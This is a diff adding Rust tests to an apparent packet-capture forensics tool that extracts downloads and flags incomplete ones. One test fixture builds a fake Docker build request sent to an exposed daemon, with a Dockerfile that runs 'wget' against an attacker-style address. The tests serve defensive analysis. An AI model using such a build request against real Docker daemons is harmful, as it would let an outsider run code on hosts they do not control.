@@ -160,6 +160,48 @@ fn no_name_from_the_wire_becomes_a_path_and_what_breaks_off_is_not_whole() {
     assert!(!manifest.contains("hunter2secret"), "{manifest}");
 }
 
+/// Answers of a daemon hold the environment of every container.
+#[test]
+fn what_a_daemon_answers_is_no_download() {
+    let lab = Lab::learned();
+    let (entries, _, _) = extract(&lab, &testdata("scenarios/recon-scan.pcap"));
+    assert!(entries.is_empty(), "{entries:#?}");
+}
+
+#[test]
+fn a_body_that_begins_with_a_hole_is_not_whole() {
+    let lab = Lab::new();
+    let at = Timestamp::from_secs_nanos(1_795_558_894, 0);
+    let end = |last: u8, port| SocketAddrV4::new(Ipv4Addr::new(10, 10, 1, last), port);
+    let dockerfile = b"FROM alpine\nRUN wget http://203.0.113.66/a\n";
+    let request = BuildRequest { query: "t=x", headers: &[], dockerfile };
+    let build =
+        Conversation::open(end(9, 40_000), end(5, 2375), at).client_sends(&request.to_bytes());
+    let get = http_request("GET", "/a", &[("Host", "203.0.113.66")], b"");
+    let server = SocketAddrV4::new(Ipv4Addr::new(203, 0, 113, 66), 80);
+    let fetched = Conversation::open(end(5, 50_000), server, at.plus(Duration::from_millis(200)))
+        .client_sends(&get)
+        .server_sends(b"HTTP/1.1 200 OK\r\nContent-Length: 16\r\n\r\n")
+        .server_sends(b"NOT SEEN")
+        .server_sends(b"the rest")
+        .close();
+    let ended = daemon_answer(&[r#"{"stream":"Step 1/1 : FROM alpine\n"}"#]);
+    let build = build.wait(Duration::from_secs(1)).server_sends(&ended).close();
+    let lost = |frame: &[u8]| frame.windows(8).any(|bytes| bytes == b"NOT SEEN");
+    let packets: Vec<_> = build.into_iter().chain(fetched).filter(|p| !lost(&p.frame)).collect();
+    let (entries, _, _) = extract(&lab, &lab.file("hole.pcap", &to_pcap(&packets)));
+    let download = entries.iter().find(|e| e["kind"] == "download").expect("extracted");
+    assert_eq!((&download["bytes"], &download["whole"]), (&8.into(), &false.into()));
+}
+
+#[test]
+fn the_folder_of_the_captures_takes_no_objects() {
+    let lab = Lab::new();
+    let capture = lab.file("captures.pcap", &to_pcap(&[]));
+    let folder = capture.parent().expect("a folder").display().to_string();
+    lab.run("replay", ["--extract", &folder, &folder]).failed(2, &["--extract", "captures are in"]);
+}
+
 #[test]
 fn where_nothing_was_found_the_manifest_is_empty() {
     let lab = Lab::learned();
